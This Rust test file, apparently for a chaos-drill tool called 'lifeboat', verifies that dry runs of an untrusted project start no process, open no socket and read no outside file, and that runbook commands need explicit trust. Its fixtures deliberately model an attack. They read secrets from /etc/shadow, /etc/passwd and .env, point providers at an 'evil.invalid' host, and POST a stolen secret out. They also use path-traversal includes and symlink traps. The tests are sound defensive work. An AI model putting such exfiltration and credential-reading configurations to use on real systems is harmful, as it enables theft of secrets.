//! A project that somebody else wrote: to look at it starts nothing, asks nobody and reads nothing else; to run its commands takes this user's
//! agreement, which is about these very commands.

use crate::support::{Project, Run};
use std::path::Path;
use std::process::Command;

/// An inventory that would do harm wherever anything of it were opened, asked or run.
const HOSTILE: &str = "\
version: 1
contacts:
  mallory: {name: Mallory, reach: 'webhook:http://127.0.0.1:9/hook', token_from: 'file:/etc/shadow'}
credentials:
  of-first: {kind: api-key, from: 'command:thief'}
  of-second: {kind: api-key, from: 'file:/etc/passwd'}
  of-third: {kind: api-key, from: 'dotenv:.env#STOLEN'}
  of-fourth: {kind: api-key, from: 'vault:secret/data/x#key'}
stores:
  thief: {kind: command, read: [touch, STOLEN], write: [touch, STOLEN]}
  vault: {kind: vault, address: 'http://127.0.0.1:9', login: {token: 'file:/etc/shadow'}}
secrets:
  loot: {from: 'file:/etc/shadow'}
providers:
  first: {dialect: openai, base_url: 'http://evil.invalid/v1', credential: of-first}
  second: {dialect: openai, base_url: 'http://127.0.0.1:9/v1', credential: of-second}
  third: {dialect: openai, base_url: 'http://127.0.0.1:9/v1', credential: of-third}
  fourth: {dialect: openai, base_url: 'http://127.0.0.1:9/v1', credential: of-fourth}
services:
  chat:
    criticality: recoverable
    providers: [first, second]
    runbook: runbooks/evil.yaml
    objectives: {rto: 2s, slo: {first_token: 250ms}, deadline: 2s, success: 95%, stable_for: 5s, lag_max: 200ms}
environments:
  lab: {embedded: true}
  evil:
    control: {url: 'http://127.0.0.1:9', token_from: 'env:SOMEBODY_S_SECRET'}
    start: {run: [touch, STOLEN], env: {KEY: '${credential.first}'}, pass: [AWS_SECRET_ACCESS_KEY], ready: 'http://127.0.0.1:9/'}
    services:
      chat: {url: 'http://127.0.0.1:9/v1', key_from: 'env:SOMEBODY_S_SECRET', ca: /etc/shadow, reset: {run: [touch, STOLEN]}}
";

const RUNBOOK: &str = "\
version: 1
runbook: evil
owner: mallory
start: with-the-fault
steps:
  - name: Take what is there
    run: {command: [sh, scripts/evil.sh, --config=loot.txt], pass: [AWS_SECRET_ACCESS_KEY]}
    timeout: 5s
    undo: {run: [touch, STOLEN]}
  - name: Tell
    http: {post: 'http://127.0.0.1:9/${secret.loot}'}
    timeout: 5s
  - name: Wait
    wait_until: {run: [touch, STOLEN], exits: 0}
    timeout: 5s
";

const SCENARIO: &str = "\
version: 1
scenario: evil
title: A drill from a pull request
service: chat
runbook: runbooks/evil.yaml
traffic: {rate: 50/s, request: chat-stream}
timeline:
  baseline: 1500ms
  faults: [{at: 0s, on: first, fault: blackhole, for: 7500ms}]
  watch: 1s
";

fn hostile() -> Project {
    let project = Project::empty();
    project.write("runbooks/inventory.yaml", HOSTILE).write("runbooks/evil.yaml", RUNBOOK).write("scenarios/evil.yaml", SCENARIO);
    project.write("scripts/evil.sh", "touch STOLEN").write("loot.txt", "x").write(".env", "STOLEN=sk-of-somebody");
    project
}

/// Things that are no files, or no files of this project, where files are looked for.
fn with_traps(project: &Project) {
    std::os::unix::fs::symlink("/etc/passwd", project.path("runbooks/passwd.yaml")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", project.path("scenarios/zero.yaml")).unwrap();
    std::os::unix::fs::symlink("/etc", project.path("scenarios/etc")).unwrap();
    std::os::unix::fs::symlink("..", project.path("scenarios/round")).unwrap();
    assert!(Command::new("mkfifo").arg(project.path("scenarios/pipe.yaml")).status().unwrap().success());
    std::fs::File::create(project.path("scenarios/huge.yaml")).unwrap().set_len(1 << 32).unwrap();
    project.write("runbooks/climbs.yaml", "version: 1\nrunbook: climbs\nsteps:\n  - include: ../../../etc/passwd\n");
    project.write("runbooks/absolute.yaml", "version: 1\nrunbook: absolute\nsteps:\n  - include: /etc/passwd\n");
    let traced = SCENARIO.replace("rate: 50/s", "trace: ../../../etc/passwd").replace("scenario: evil", "scenario: traced");
    project.write("scenarios/traced.yaml", &traced);
    project.write(
        "scenarios/other.yaml",
        &SCENARIO.replace("runbooks/evil.yaml", "../../etc/passwd").replace("scenario: evil", "scenario: other"),
    );
}

/// What the kernel was asked for: processes, sockets, and files, by the lines of strace.
fn traced(project: &Project, args: &[&str]) -> (Run, Vec<String>) {
    let log = project.path("../trace-of-it");
    let log = std::env::temp_dir().join(format!("lifeboat-trace-{}-{}", std::process::id(), log.display().to_string().len() + args.len()));
    let calls = "trace=execve,execveat,fork,vfork,clone,clone3,socket,connect,bind,sendto,sendmsg,open,openat,openat2,ptrace";
    let log_text = log.display().to_string();
    let mut command = project.after(&["strace", "-f", "-qq", "-s", "4096", "-e", calls, "-o", &log_text], args);
    command
        .env_remove("LIFEBOAT_TRUSTED")
        .env_remove("LD_LIBRARY_PATH")
        .env("SOMEBODY_S_SECRET", "hunter2-of-somebody")
        .env("AWS_SECRET_ACCESS_KEY", "hunter2-of-aws");
    let run = project.run(&mut command);
    let lines = std::fs::read_to_string(&log).unwrap().lines().map(str::to_owned).collect();
    std::fs::remove_file(log).unwrap();
    (run, lines)
}

/// A program needs its libraries, its clock, and to know on what it runs.
fn is_of_any_program(path: &str) -> bool {
    [
        "/lib",
        "/usr/lib",
        "/etc/ld.so",
        "/proc/",
        "/sys/",
        "/usr/share/zoneinfo",
        "/etc/localtime",
        "/etc/timezone",
        "/usr/share/locale",
        "/dev/null",
        "/dev/tty",
    ]
    .iter()
    .any(|begin| path.starts_with(begin))
}

/// The lines that start something, speak to somebody or open what is none of the project's.
fn trespasses(project: &Project, lines: &[String]) -> Vec<String> {
    let (root, binary) = (std::fs::canonicalize(project.path(".")).unwrap(), env!("CARGO_BIN_EXE_lifeboat"));
    let is_inside = |path: &str| {
        let path = Path::new(path);
        // Whoever climbs out by `..` or a link is told of by what is opened after that.
        let path = if path.is_absolute() { path.to_owned() } else { root.join(path) };
        let real = path.canonicalize().unwrap_or(path);
        real.starts_with(&root)
    };
    let mut programs = 0;
    let found = lines.iter().filter(|line| {
        let call = line.split_whitespace().nth(1).unwrap_or_default();
        let name = call.split('(').next().unwrap_or_default();
        match name {
            "execve" | "execveat" => {
                programs += 1;
                programs > 1
            }
            // Threads are no processes.
            "clone" | "clone3" => !line.contains("CLONE_THREAD"),
            "fork" | "vfork" | "socket" | "connect" | "bind" | "sendto" | "sendmsg" | "ptrace" => true,
            "open" | "openat" | "openat2" => {
                let path = line.split('"').nth(1).unwrap_or_default();
                !is_of_any_program(path) && path != binary && !is_inside(path)
            }
            _ => false,
        }
    });
    found.cloned().collect()
}

#[test]
fn check_and_dry_run_start_nothing_ask_nobody_and_read_no_other_file() {
    let project = hostile();
    let dry = ["run", "scenarios/evil.yaml", "--env", "evil", "--dry-run"];
    let (run, lines) = traced(&project, &dry);
    run.exits_with(0).says("plan        sha256 ").says("touch STOLEN").says("file:/etc/passwd");
    assert!(!format!("{}{}", run.stdout, run.stderr).contains("hunter2"), "no value is told: {}", run.stdout);
    assert_eq!(trespasses(&project, &lines), [""; 0], "{}", lines.join("\n"));
    let opened_env = lines.iter().any(|line| line.contains("/.env\""));
    assert!(!opened_env, "no secret is read");
    with_traps(&project);
    let (run, lines) = traced(&project, &["check"]);
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    assert_eq!(trespasses(&project, &lines), [""; 0], "{}", run.stdout);
    let (_, lines) = traced(&project, &["run", "scenarios/other.yaml", "scenarios/traced.yaml", "scenarios/zero.yaml", "--dry-run"]);
    assert_eq!(trespasses(&project, &lines), [""; 0]);
    assert!(!project.path("STOLEN").exists());
    // The trace would see it: the same drill, run.
    let (_, lines) = traced(&project, &["fingerprint", "--help"]);
    assert!(!lines.is_empty() && trespasses(&project, &lines).is_empty(), "{lines:?}");
}

#[test]
fn without_any_network_both_do_all_that_they_do() {
    let project = hostile();
    for args in [&["check"][..], &["run", "scenarios/evil.yaml", "--env", "evil", "--dry-run"]] {
        let there = project.lifeboat(args);
        let mut command = project.after(&["unshare", "-rn"], args);
        let apart = project.run(&mut command);
        assert_eq!((apart.code, &apart.stdout), (there.code, &there.stdout), "{}", apart.stderr);
        assert_eq!(apart.code, Some(0), "{}{}", apart.stdout, apart.stderr);
    }
}

/// As a person who has not said anything yet.
fn alone(project: &Project, args: &[&str]) -> Run {
    project.run(project.command(args).env_remove("LIFEBOAT_TRUSTED"))
}

/// A quick drill whose runbook starts this.
fn starting(command: &str) -> Project {
    let project = Project::quick();
    let runbook = "version: 1\nrunbook: start\nstart: with-the-fault\nsteps:\n  - name: Do it\n    run: COMMAND\n    timeout: 5s\n";
    project.write("runbooks/start.yaml", &runbook.replace("COMMAND", command));
    project.edit("scenarios/quick.yaml", "service: chat\n", "service: chat\nrunbook: runbooks/start.yaml\n");
    project
}

#[test]
fn commands_of_a_project_that_nobody_trusts_are_not_started_and_named() {
    let project = starting("[sh, scripts/do.sh]");
    project.write("scripts/do.sh", "echo done > MADE");
    let drill = ["run", "scenarios/quick.yaml", "--seed", "7", "--out", "drill"];
    for args in [&drill[..], &["doctor", "scenarios/quick.yaml"], &["execute", "runbooks/start.yaml", "--yes"]] {
        let run = alone(&project, args);
        run.exits_with(2).says("starts commands on this host that you have not trusted before:").says("sh scripts/do.sh");
        run.says("hint: see that they do what you want, then type `lifeboat trust .`");
    }
    assert!(!project.path("MADE").exists() && !project.path("drill").exists(), "nothing began");
    // To answer everything else with yes is no agreement to this.
    alone(&project, &[&drill[..], &["--yes"]].concat()).exits_with(2);

    let trusted = alone(&project, &["trust"]);
    trusted.exits_with(0).says("step 1 of start: sh scripts/do.sh").says("trusted: 1 command of .");
    assert!(!project.path("MADE").exists(), "nothing is started by that");
    alone(&project, &["trust", "--list"]).exits_with(0).says("sh scripts/do.sh");
    alone(&project, &["execute", "runbooks/start.yaml", "--yes"]).exits_with(0);
    assert!(project.path("MADE").exists());

    // What it names has changed, then what it is.
    project.write("scripts/do.sh", "echo mischief");
    let told = alone(&project, &drill);
    told.exits_with(2).says("not as you trusted them").says("changed since: scripts/do.sh");
    alone(&project, &["trust"]).exits_with(0);
    project.edit("runbooks/start.yaml", "scripts/do.sh]", "scripts/do.sh, --more]");
    alone(&project, &drill).exits_with(2).says("was `sh scripts/do.sh`");
    alone(&project, &["trust", "--remove"]).exits_with(0).says("nothing of . is trusted any more");
    alone(&project, &["trust", "--list"]).exits_with(0).says("no project is trusted");
    // For once, and for continuous integration.
    alone(&project, &["execute", "runbooks/start.yaml", "--yes", "--trusted"]).exits_with(0);
    project.run(project.command(&["execute", "runbooks/start.yaml", "--yes"]).env("LIFEBOAT_TRUSTED", "0")).exits_with(2);
}

#[test]
fn what_a_folder_says_was_begun_is_taken_back_only_where_that_is_trusted() {
    let project = starting("[touch, MADE]");
    project.edit("runbooks/start.yaml", "run: [touch, MADE]", "run: [touch, MADE]\n    undo: {run: [touch, UNDONE]}");
    project.lifeboat(&["execute", "runbooks/start.yaml", "--yes", "--out", "walk"]).exits_with(0);
    for args in [&["run", "--undo", "walk"][..], &["execute", "--resume", "walk"]] {
        alone(&project, args).exits_with(2).says("not trusted before").says("undo of step 1 of start: touch UNDONE");
    }
    assert!(!project.path("UNDONE").exists());
}

#[test]
fn a_book_of_trust_that_is_damaged_or_somebody_elses_trusts_nothing() {
    use std::os::unix::fs::PermissionsExt;
    let project = starting("[\"true\"]");
    let execute = ["execute", "runbooks/start.yaml", "--yes"];
    alone(&project, &["trust"]).exits_with(0);
    alone(&project, &execute).exits_with(0);
    let book = project.path(".state/trust.json");
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(&book), mode(book.parent().unwrap())), (0o600, 0o700));
    let whole = std::fs::read_to_string(&book).unwrap();
    std::fs::write(&book, &whole[..whole.len() / 2]).unwrap();
    alone(&project, &execute).exits_with(2).says("trust.json cannot be read, so nothing is trusted").says("hint: ");
    std::fs::write(&book, whole.replace("\"1.0\"", "\"2.0\"")).unwrap();
    alone(&project, &execute).exits_with(2).says("it is of version 2.0");
    std::fs::write(&book, &whole).unwrap();
    alone(&project, &execute).exits_with(0);
    std::fs::set_permissions(&book, std::fs::Permissions::from_mode(0o666)).unwrap();
    alone(&project, &execute).exits_with(2).says("can be written by others");
}

#[test]
fn a_project_that_can_start_nothing_is_asked_nothing() {
    let project = Project::quick();
    alone(&project, &["trust"]).exits_with(0).says("starts no commands, so it needs no trust");
    assert!(!project.path(".state").exists(), "nothing is kept of it");
    alone(&project, &["run", "scenarios/quick.yaml", "--seed", "7", "--out", "drill"]).exits_with(0);
}

#[test]
fn a_plan_says_what_it_breaks_where_what_it_starts_and_what_stays() {
    let project = hostile();
    let shown = project.lifeboat(&["run", "scenarios/evil.yaml", "--env", "evil", "--dry-run"]);
    for said in [
        "fault       blackhole on first, from 0 s for 7.5 s",
        "where       the proxy of http://127.0.0.1:9 at a free port of loopback, before http://evil.invalid/v1",
        "control     http://127.0.0.1:9, which is not asked now",
        "step        1. Take what is there: runs sh scripts/evil.sh --config=loot.txt",
        "undone by runs touch STOLEN",
        "step        2. Tell: POST http://127.0.0.1:9/${secret.loot}",
        "starts      touch STOLEN (start of the environment evil)",
        "with KEY from ${credential.first} (command:thief), AWS_SECRET_ACCESS_KEY from this shell",
        "(reset of chat in the environment evil)",
        "touch STOLEN (credential of-first, read)",
        "secrets     credential of-first from command:thief",
        "secret loot from file:/etc/shadow",
        "env:SOMEBODY_S_SECRET",
        "files       loot.txt (sha256 2d711642b726)",
        "scripts/evil.sh (sha256 ",
        "step 2, Tell: a request that changes something, and no undo",
        "allowed     everything: the environment sets no bounds",
        "plan        sha256 ",
    ] {
        shown.exits_with(0).says(said);
    }
    let json = project.lifeboat(&["run", "scenarios/evil.yaml", "--env", "evil", "--dry-run", "--format", "json"]);
    let told: serde_json::Value = serde_json::from_str(&json.exits_with(0).stdout).unwrap();
    let plan = &told["plans"][0];
    let hash = plan["plan_sha256"].as_str().unwrap();
    assert!(hash.len() == 64 && shown.stdout.contains(&format!("sha256 {hash}")), "{plan}");
    assert!(plan["lines"].as_array().unwrap().iter().any(|line| line["label"] == "fault"), "{plan}");
}
